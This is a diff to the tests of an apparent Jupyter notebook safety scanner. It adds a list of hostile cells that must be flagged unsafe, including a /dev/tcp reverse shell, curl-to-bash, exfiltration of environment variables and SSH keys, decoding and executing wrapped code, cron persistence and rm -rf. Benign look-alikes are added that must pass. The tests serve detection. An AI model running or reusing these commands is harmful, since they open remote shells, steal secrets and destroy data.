@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""A notebook runs nothing when it is opened: what its cells would do is a note or unknown, only scripts that reach the kernel are unsafe."""
+"""A notebook runs nothing when it is opened: what its cells would do is a note or unknown, and unsafe what nobody means well with."""
 
 import json
 import time
@@ -81,7 +81,9 @@ def test_honest_notebooks_are_safe(data: bytes) -> None:
         ("exec('x = 1')", "builtins.exec"),
         ("!curl https://example.org/x.sh | bash", "curl https://example.org/x.sh | bash"),
         ("x = !./a.out", "./a.out"),
-        ("%%bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1", "bash -i >& /dev/tcp/192.0.2.1/4 0>&1"),
+        ("!pip install -i https://index.example/simple thing", "pip install -i https://index.example/simple thing"),
+        ("!python -c 'import x'", "python -c 'import x'"),
+        ("import joblib, urllib.request as r\nr.urlretrieve(u, 'm')\njoblib.load('m')", "joblib.load"),
         ("%sx touch x", "touch x"),
         ("x = get_ipython().getoutput('touch x')", "touch x"),
         ("get_ipython().system(command)", "command"),
@@ -97,6 +99,58 @@ def test_what_cells_run_is_unknown(cell: str, evidence: str) -> None:
     (found,) = [f for f in report.findings if f.severity == "medium"]
     assert (report.verdict, found.evidence) == (Verdict.UNKNOWN, evidence)
     assert found.offset in {data.index(json.dumps(line)[1:-1].encode()) for line in cell.split("\n")}
+
+
+HOSTILE = [
+    "import pickle\nfrom urllib.request import urlopen\npickle.loads(urlopen('https://a.example/m').read())",
+    "import requests, pickle as p\nr = requests.get(u)\nm = p.loads(r.content)",
+    "import io, requests, torch\ntorch.load(io.BytesIO(requests.get(u).content), weights_only=False)",
+    "import requests\nwith requests.get(u) as r:\n    code = r.text\nexec(code)",
+    "import base64\nexec(base64.b64decode('eA=='))",
+    "import codecs\neval(compile(codecs.decode('k', 'rot13'), '', 'exec'))",
+    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'')))",
+    "import requests, os\nrequests.post(u, json=dict(os.environ))",
+    "import urllib.request as r, os.path\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nr.urlopen(u + k)",
+    "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch x')",
+    "getattr(m, 'metsys'[::-1])('touch x')",
+    "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
+    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
+    "import os\nos.system('rm -rf ~/')",
+    "%%bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1",
+    "!curl -s http://a.example/x | bash",
+    "!wget http://a.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
+    "!echo eA== | base64 -d | sh",
+    "!(crontab -l; echo '* * * * * x') | crontab -",
+    "!rm -rf /",
+]
+
+
+@pytest.mark.parametrize("cell", HOSTILE)
+def test_what_nobody_means_well_with_is_unsafe(cell: str) -> None:
+    """Code from the network or out of a wrapping, secrets that go away, shells for others, everything deleted."""
+    report = scan_bytes(notebook(code("x = 1"), code(cell)), "a.ipynb")
+    assert report.verdict is Verdict.UNSAFE, report.findings
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "import requests, io, pandas as pd\npd.read_csv(io.StringIO(requests.get(u).text))",
+        "import requests, io, numpy as np, torch\nnp.load(io.BytesIO(requests.get(u).content))",
+        "import io, requests, torch\ntorch.load(io.BytesIO(requests.get(u).content), weights_only=True)",
+        "import pickle\nm = pickle.load(open('m.pkl', 'rb'))",
+        "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})",
+        "import base64\nimage = base64.b64decode(text)",
+        "import shutil\nshutil.rmtree('out')",
+        "getattr(model, 'fit' + '_predict')(x)",
+        "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', package])",
+        "!python train.py --epochs 3\n!rm -rf out/*.tmp\n!chmod 600 a\n!wget -q https://a.example/x.tar.gz && tar xzf x.tar.gz",
+        "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
+    ],
+)
+def test_what_honest_notebooks_do_is_safe(cell: str) -> None:
+    report = scan_bytes(notebook(code(cell)), "a.ipynb")
+    assert report.verdict is Verdict.SAFE, report.findings
 
 
 def test_names_go_from_cell_to_cell() -> None:
